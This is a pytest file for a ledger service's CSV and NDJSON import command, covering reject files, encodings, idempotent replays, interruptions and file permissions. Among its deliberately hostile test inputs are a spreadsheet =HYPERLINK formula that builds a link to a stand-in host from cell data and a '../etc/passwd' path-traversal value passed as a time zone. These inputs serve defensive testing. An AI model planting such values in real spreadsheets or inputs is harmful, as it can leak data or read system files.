"""`ledgerservice import`, as a user's shell sees it."""

import asyncio
import csv
import itertools
import json
import os
import signal
import stat
import subprocess
import sys
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from ledgerservice import Ledger
from ledgerservice.errors import Unavailable
from ledgerservice.files import importer as importing
from ledgerservice.files.importer import Importing, import_rows
from ledgerservice.files.rejects import Rejects
from tests.databases import url_text
from tests.files.shell import (
    HEADER,
    INPUTS,
    balance,
    open_named,
    run,
    run_with_input,
    table,
    texts,
)
from tests.postings import open_accounts
from tests.processes import ROOT, cli, environment

REASON = ("reject_line", "reject_outcome", "reject_code")


@pytest.fixture
def two(database):
    """A database with the accounts 1 and 2, in USD, and 3, in INR."""
    open_accounts(database, "USD", "USD", "INR")
    return database


def rejected(path: Path) -> list[tuple[str, ...]]:
    return [tuple(row[name] for name in REASON) for row in csv.DictReader(path.open())]


ROWS = [
    'DEPOSIT,1,,,"10.00",d1',
    "deposit,1,,,5,d2",
    "TRANSFER,,1,2,3.50,t1",
    "TRANSFER,,1,3,1,t2",
    "WITHDRAWAL,2,,,100,w1",
    "WITHDRAWAL,2,,,x,w2",
    "DEPOSIT,1,,,1,",
    "DEPOSIT,one,,,1,d3",
    "DEPOSIT,1,,,1,d4,more",
    "DEPOSIT,1,,,1,d1",
    '"DEPOSIT" x,1,,,1,d5',
    "DEPOSIT,1,,,-1,d6",
]


def test_a_csv_file_is_posted_and_its_rejects_can_be_mended(two, tmp_path, no_violations):
    file = tmp_path / "payments.csv"
    file.write_text(HEADER + "\n".join(ROWS))
    for posted, replayed, name in ((3, 0, "rejects"), (0, 3, "rejects.2")):
        done = run(two, "import", file)
        assert done.returncode == 1, done.stderr
        report = f"12 rows: {posted} posted, {replayed} posted before, 1 declined, 8 rejected"
        assert report in done.stdout
        rejects = tmp_path / f"payments.csv.{name}.csv"
        assert str(rejects) in done.stdout
        assert rejected(rejects) == [
            ("5", "rejected", "currency_mismatch"),
            ("6", "declined", "insufficient_funds"),
            ("7", "rejected", "invalid_request"),
            ("8", "rejected", "idempotency_key_missing"),
            ("9", "rejected", "invalid_request"),
            ("10", "rejected", "invalid_request"),
            ("11", "rejected", "idempotency_key_reused"),
            ("12", "rejected", "invalid_request"),
            ("13", "rejected", "invalid_request"),
        ]
        assert (balance(two, 1), balance(two, 2)) == (1150, 350)
        assert stat.S_IMODE(rejects.stat().st_mode) == 0o600
    rows = rejects.read_text().splitlines()
    assert [row.split(",", 4)[0] for row in rows[1:]] == [str(n) for n in range(5, 14)]
    mended = tmp_path / "mended.csv"
    mended.write_text("\n".join([rows[0], rows[3].replace(",x,", ",1.50,")]) + "\n")
    done = run(two, "import", mended)
    assert (done.returncode, balance(two, 2)) == (0, 200), done.stdout
    assert not (tmp_path / "mended.csv.rejects.csv").exists()
    no_violations(two)


def test_rejects_of_rejects_have_one_reason_each(two, tmp_path):
    file = tmp_path / "payments.csv"
    file.write_text(HEADER + 'WITHDRAWAL,2,,,1,"w,1"\n')
    run(two, "import", file)
    again = tmp_path / "payments.csv.rejects.csv"
    assert run(two, "import", again).returncode == 1
    twice = tmp_path / "payments.csv.rejects.csv.rejects.csv"
    assert twice.read_text() == again.read_text()


@pytest.mark.thorough
def test_ndjson_out_of_a_pipe_and_its_rejects(two, tmp_path):
    def item(key: str) -> bytes:
        fields = {"type": "DEPOSIT", "account_id": 1, "amount": "1.00", "idempotency_key": key}
        return json.dumps(fields).encode()

    text = b"\xef\xbb\xbf" + b"\n\n".join(item(f"k{n}") for n in range(3))
    rejects = tmp_path / "rejects.ndjson"
    options = ("import", "-", "--format", "ndjson", "--rejects", str(rejects))
    done = run_with_input(two, text, *options)
    assert done.returncode == 0, done.stderr
    assert b"3 posted" in done.stdout
    assert not rejects.exists()
    bad = [b'{"a', b'\xff{"\xfe'.ljust(9), item("k3").replace(b"1.00", b"0.00")]
    done = run_with_input(two, b"\n".join([text, *bad]), *options)
    assert done.returncode == 1
    reasons = rejects.read_bytes().splitlines()
    assert reasons[1::2] == bad
    assert [json.loads(line)["line"] for line in reasons[::2]] == [6, 7, 8]
    assert balance(two, 1) == 300
    rejects.write_bytes(rejects.read_bytes().replace(b"0.00", b"4.00"))
    again = run(two, "import", rejects)
    assert "3 rows: 1 posted" in again.stdout
    assert balance(two, 1) == 700


# The files of INPUTS: what a careful person expects of each.


def test_a_byte_that_is_not_valid_rejects_its_line_only(two, tmp_path):
    for name, total in (("bad-byte.ndjson", 200), ("latin1.csv", 1400)):
        file = tmp_path / name
        file.write_bytes((INPUTS / name).read_bytes())
        done = run(two, "import", file)
        assert (done.returncode, "Traceback" in done.stderr) == (1, False)
        assert "2 posted" in done.stdout and "1 rejected" in done.stdout
        assert balance(two, 1) == total
        rejects = next(tmp_path.glob(f"{name}.rejects.*"))
        line = (INPUTS / name).read_bytes().splitlines()[1 if "ndjson" in name else 2]
        assert line in rejects.read_bytes()
        # In its encoding the file of rejects is imported as it stands.
        done = run(two, "import", rejects, "--encoding", "latin-1")
        assert (done.returncode, "1 posted" in done.stdout) == (0, True)
    assert [row[3] for row in texts(two) if row[3]] == ["café", "ordinary", "after the byte",
                                                        "Dépôt café"]  # fmt: skip


@pytest.mark.thorough
@pytest.mark.parametrize(
    ("name", "options", "expected"),
    [
        ("bom-crlf.csv", [], [("b-1", 1, 300, None, None, None)]),
        ("utf16.csv", [], [("u-1", 1, 300, None, None, None)]),
        (
            "formula.csv",
            [],
            [('=HYPERLINK("http://x.example/"&A1)', 1, 100, None, None, None)],
        ),
    ],
)
def test_a_file_of_a_spreadsheet_is_posted(two, tmp_path, name, options, expected):
    done = run(two, "import", INPUTS / name, "--rejects", tmp_path / "rejects.csv", *options)
    assert done.returncode == 0, done.stdout + done.stderr
    assert texts(two) == expected
    # The same out of a pipe.
    arguments = ("import", "-", "--format", "csv", "--rejects", str(tmp_path / "r.csv"))
    piped = run_with_input(two, (INPUTS / name).read_bytes(), *arguments)
    assert b"0 posted, 1 posted before" in piped.stdout


def test_accounts_are_found_by_reference(database, tmp_path):
    open_named(database, **{"buyer-1": "EUR"})
    done = run(database, "import", INPUTS / "by-reference.csv", "--rejects", tmp_path / "r.csv")
    assert done.returncode == 0, done.stdout
    late = datetime(2026, 3, 31, 23, 59, 59, tzinfo=UTC) - timedelta(hours=5, minutes=30)
    assert texts(database) == [
        ("r-1", 1, 1815, "opening", "inv-1", datetime(2026, 3, 1, tzinfo=UTC)),
        ("r-2", 1, 500, "late", "inv-2", late),
    ]


def test_a_file_with_its_own_columns_commas_and_dates(database, tmp_path):
    open_named(database, giro="EUR")
    conventions = [
        "--delimiter", ";", "--decimal-comma", "--date-format", "%d.%m.%Y",
        "--timezone", "Europe/Berlin", "--account", "giro", "--key-prefix", "nov-",
        "--column", "effective_at=Datum", "--column", "amount=Betrag",
        "--column", "currency=Waehrung", "--column", "description=Verwendungszweck",
        "--column", "reference=Referenz", "--rejects", tmp_path / "r.csv",
    ]  # fmt: skip
    dry = run(database, "import", INPUTS / "semicolon-comma.csv", *conventions, "--dry-run")
    assert "Dry run, nothing was posted. 2 rows: 2 posted" in dry.stdout
    assert texts(database) == []
    done = run(database, "import", INPUTS / "semicolon-comma.csv", *conventions)
    assert done.returncode == 0, done.stdout + done.stderr
    november = datetime(2026, 11, 2, 23, tzinfo=UTC)
    assert texts(database) == [
        ("nov-2", 1, 123450, "Rechnung 17", "r-17", november),
        ("nov-3", 2, 2000, "Gebühr", "r-18", november + timedelta(days=1)),
    ]


FAULTS = [
    ((INPUTS / "column-twice.csv").read_bytes(), [], "the column amount twice"),
    (b"amount,Amount ,account_id\n", [], "the column amount twice"),
    (b"amount,iban,account_id\n", [], "unknown columns: iban"),
    (b"amount;account_id\n", [], "add --delimiter ';'"),
    (b"type,account_id,idempotency_key\n", [], "does not name the column amount"),
    (b"amount,idempotency_key\n", [], "names no account"),
    (b"amount,account_id\n", [], "--key-prefix"),
    (b"", [], "It is empty"),
    (b'"amount" x,account_id\n', [], "Its first line"),
    (b"am\xffount,account_id\n", [], "Its first line is not valid utf-8"),
    (b"amount,account_id\n", ["--encoding", "utf-99"], "no encoding utf-99"),
    (b"amount,account_id\n", ["--encoding", "hex"], "no encoding hex"),
    (b"amount,account_id\n", ["--timezone", "Mars"], "no time zone Mars"),
    (b"amount,account_id\n", ["--timezone", "../etc/passwd"], "no time zone"),
    (b"amount,account_id\n", ["--delimiter", "::"], "--delimiter"),
    (b"amount,account_id\n", ["--column", "amount"], "NAME=HEADER"),
    (b"amount,account_id\n", ["--column", "sum=amount"], "sum is not one of"),
    (b"amount,account_id\n", ["--column", "amount=Betrag"], "does not name the column Betrag"),
    (b"amount,account_id\n", ["--key-prefix", "\N{EURO SIGN}"], "--key-prefix"),
    (b"\xff\xfeX", [], "not valid utf-16-le"),
    (b"x" * 2**20, [], "line of 1048576 bytes"),
]


@pytest.mark.parametrize(("content", "options", "expected"), FAULTS)
def test_a_fault_of_a_file_is_one_line_that_names_it(tmp_path, content, options, expected):
    file = tmp_path / "file.csv"
    file.write_bytes(content)
    done = run_without_database("import", str(file), *options)
    assert done.returncode == 1
    [line] = done.stderr.splitlines()
    assert line.startswith("ledgerservice: The file cannot be imported.")
    assert expected in line
    assert list(tmp_path.iterdir()) == [file]


def run_without_database(*arguments: str) -> Any:
    return cli(*arguments, DATABASE_URL="postgresql://127.0.0.1:1/none")


@pytest.mark.parametrize("name", ["nothing.csv", "payments.txt", "."])
def test_a_file_that_cannot_be_read_is_reported_in_one_line(tmp_path, name):
    done = run_without_database("import", str(tmp_path / name))
    assert done.returncode == 1
    assert done.stderr.startswith("ledgerservice: The file cannot be imported.")
    assert "Traceback" not in done.stderr


@pytest.mark.parametrize("kind", ["source", "file", "link", "dangling"])
def test_rejects_overwrite_nothing(two, tmp_path, kind):
    file, other, link = tmp_path / "in.csv", tmp_path / "other", tmp_path / "link"
    file.write_text(HEADER + "DEPOSIT,1,,,0,bad\n")
    if kind != "dangling":
        other.write_text("precious")
    link.symlink_to(other)
    target = {"source": file, "file": other}.get(kind, link)
    before = {path: path.read_bytes() for path in (file, other) if path.exists()}
    done = run(two, "import", file, "--rejects", target)
    assert done.returncode == 1
    assert "exists; name another one" in done.stderr
    assert {path: path.read_bytes() for path in (file, other) if path.exists()} == before
    assert not other.exists() or kind != "dangling"


ACCOUNTS = """type,owner,currency,account_reference,from_account_reference,to_account_reference,\
amount,idempotency_key
ACCOUNT,Ada,EUR,ada,,,,
DEPOSIT,,EUR,ada,,,10.000,d-1
ACCOUNT,'=Bob,EUR,bob,,,,o-2
TRANSFER,,,,ada,bob,4,t-1
DEPOSIT,,USD,bob,,,1,wrong currency
DEPOSIT,,,carol,,,1,no such account
ACCOUNT,Eve,EUR,ada,,,,o-3
"""


def test_a_file_opens_its_accounts(database, tmp_path):
    file = tmp_path / "start.csv"
    file.write_text(ACCOUNTS)
    dry = run(database, "import", file, "--dry-run", "--rejects", tmp_path / "dry.csv")
    assert "7 rows: 2 posted, 3 opened" in dry.stdout
    for posted, opened, before in ((2, 2, 0), (0, 0, 4)):
        done = run(database, "import", file, "--json", "--rejects", tmp_path / f"{posted}.csv")
        counts = json.loads(done.stdout)
        assert (counts["posted"], counts["opened"], counts["replayed"]) == (posted, opened, before)
        assert rejected(tmp_path / f"{posted}.csv") == [
            ("6", "rejected", "currency_mismatch"),
            ("7", "rejected", "account_not_found"),
            ("8", "rejected", "reference_taken"),
        ]
    rows = run(database, "export").stdout
    assert ",ada,Ada," in rows and ",bob,'=Bob," in rows
    lines = [
        {"type": "ACCOUNT", "owner": "Carol", "currency": "EUR", "reference": "carol"},
        {"type": "TRANSFER", "from_account_reference": "bob", "to_account_reference": "carol",
         "amount": 1, "idempotency_key": "t-2", "metadata": {"n": 1}},
    ]  # fmt: skip
    file = tmp_path / "more.ndjson"
    file.write_text("".join(json.dumps(line) + "\n" for line in lines))
    assert "2 rows: 1 posted, 1 opened" in run(database, "import", file).stdout


def test_a_dry_run_sees_the_rows_before(two, tmp_path):
    file = tmp_path / "f.csv"
    file.write_text(HEADER + "DEPOSIT,1,,,5,d\nWITHDRAWAL,1,,,4,w1\nWITHDRAWAL,1,,,4,w2\n")
    done = run(two, "import", file, "--dry-run")
    assert "3 rows: 2 posted, 0 posted before, 1 declined" in done.stdout
    assert (done.returncode, texts(two), balance(two, 1)) == (1, [], 0)


# Interruptions.


def start_import(database: Any, file: Path) -> "subprocess.Popen[str]":
    return subprocess.Popen(
        [sys.executable, "-m", "ledgerservice", "import", str(file)],
        env=environment(DATABASE_URL=url_text(database)),
        cwd=ROOT,
        text=True,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )


def await_first_rows(database: Any, process: "subprocess.Popen[str]") -> None:
    before = balance(database, 1)
    while balance(database, 1) == before and process.poll() is None:
        time.sleep(0.01)


def many(file: Path, rows: int) -> Path:
    file.write_text(HEADER + "".join(f"DEPOSIT,1,,,0.01,k{n}\n" for n in range(rows)))
    return file


def test_a_killed_import_is_finished_by_the_next(two, tmp_path, no_violations):
    rows = 40_000
    file = many(tmp_path / "many.csv", rows)
    for pause_s in (0.2, 0.4):
        process = start_import(two, file)
        await_first_rows(two, process)
        time.sleep(pause_s)
        process.send_signal(signal.SIGKILL)
        process.communicate()
    done = run(two, "import", file)
    assert done.returncode == 0, done.stderr
    assert f"{rows:,} rows" in done.stdout
    assert balance(two, 1) == rows
    no_violations(two)


@pytest.mark.thorough
def test_an_interrupted_import_says_what_was_posted(two, tmp_path):
    file = many(tmp_path / "many.csv", 200_000)
    process = start_import(two, file)
    await_first_rows(two, process)
    process.send_signal(signal.SIGINT)
    stdout, stderr = process.communicate(timeout=60)
    assert process.returncode == 130
    assert "Run the same import again: nothing is posted twice." in stderr
    assert "Traceback" not in stderr
    posted = int(stdout.split(" rows: ")[1].split(" posted")[0].replace(",", ""))
    assert 0 < posted < 200_000
    assert posted == balance(two, 1)


@pytest.mark.thorough
def test_a_file_keeps_its_order_while_the_database_is_away(two, monkeypatch, tmp_path):
    """Else a movement would be declined, for ever, for money that comes in an earlier row."""
    monkeypatch.setattr(importing, "CHUNK_ROWS", 1)
    kinds = ["DEPOSIT", "WITHDRAWAL"] * 4
    rows = [f"{kind},1,,,1,k{n}\n" for n, kind in enumerate(kinds)]

    async def post_all() -> importing.Totals:
        async with Ledger.open(url_text(two)) as ledger:
            post, calls = ledger.post, itertools.count()

            async def away(movements: Any, **options: Any) -> Any:
                if next(calls) % 3 < 2:
                    raise Unavailable
                return await post(movements, **options)

            monkeypatch.setattr(ledger, "post", away)
            lines = table(HEADER + "".join(rows))
            rejects = Rejects(tmp_path / "rejects.csv", lines.head, lines.reject)
            work = Importing(ledger, rejects, lambda _: None)
            await import_rows(work, lines.rows())
            rejects.close()
            return work.totals

    totals = asyncio.run(post_all())
    assert (totals.posted, totals.declined, balance(two, 1)) == (8, 0, 0)


WHO = {"actor": "risk", "reason": "a test"}


def test_a_file_may_hold_any_item_and_be_of_another_ledger(two, tmp_path):
    async def prepare() -> int:
        async with Ledger.open(url_text(two)) as default:
            shop = await default.add_ledger("shop")
            opened = await shop.open_account("Shop", "JPY", key="s")
            assert opened.account_id is not None
            return opened.account_id

    own = {"account_id": asyncio.run(prepare())}
    items = [
        {"type": "DEPOSIT", **own, "amount": 100, "idempotency_key": "d", "reference": "r"},
        {"type": "HOLD", **own, "amount": 30, "idempotency_key": "h"},
        {"type": "POLICY", **own, "floor": "-5", "idempotency_key": "p"} | WHO,
    ]
    file = tmp_path / "items.ndjson"
    file.write_text("".join(json.dumps(item) + "\n" for item in items))
    assert run(two, "import", file).returncode == 1  # there is no such account in default
    assert run(two, "import", file, "--ledger", "shop").returncode == 0
    missing = run(two, "import", file, "--ledger", "nope")
    assert (missing.returncode, "no ledger nope" in missing.stderr) == (1, True)


def test_a_file_forces_nothing(two, tmp_path):
    """A forced reversal needs the approval of somebody else, and a file can propose nothing."""
    forced = {"type": "REVERSAL", "transaction_id": 1, "force": True, "actor": "me"}
    file = tmp_path / "forced.ndjson"
    file.write_text(json.dumps({**forced, "description": "why", "idempotency_key": "f"}) + "\n")
    assert run(two, "import", file).returncode == 1
    assert "approval_required" in (tmp_path / "forced.ndjson.rejects.ndjson").read_text()


def test_rejects_are_not_readable_by_others(tmp_path):
    before = os.umask(0)
    try:
        rejects = Rejects(tmp_path / "r", b"", lambda *_: b"")
    finally:
        os.umask(before)
    assert stat.S_IMODE(rejects.path.stat().st_mode) == 0o600
    rejects.close()
    assert not rejects.path.exists()
